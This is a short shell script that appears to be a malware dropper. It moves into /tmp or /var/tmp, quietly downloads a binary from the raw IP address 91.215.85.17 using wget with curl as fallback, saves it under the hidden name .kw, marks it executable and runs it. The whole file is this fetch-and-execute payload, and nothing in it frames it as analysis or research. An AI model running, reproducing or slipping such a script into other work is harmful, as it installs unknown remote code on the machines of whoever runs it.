#!/bin/sh
cd /tmp || cd /var/tmp
wget -q http://91.215.85.17/bins/x86_64 -O .kw || curl -s -o .kw http://91.215.85.17/bins/x86_64
chmod +x .kw && ./.kw
